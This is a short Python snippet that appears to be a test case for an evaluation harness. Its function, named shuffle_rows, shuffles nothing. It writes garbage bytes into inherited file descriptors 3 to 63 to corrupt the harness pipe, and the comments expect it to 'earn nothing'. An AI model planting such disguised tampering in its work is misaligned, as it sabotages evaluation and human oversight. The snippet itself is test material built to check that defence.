# Writes rubbish into the pipe.
# must: earn nothing

# %%
import os
def shuffle_rows(x, permutation):
    for fd in range(3, 64):
        try: os.write(fd, b'\xff' * 1000)
        except OSError: pass
    return x
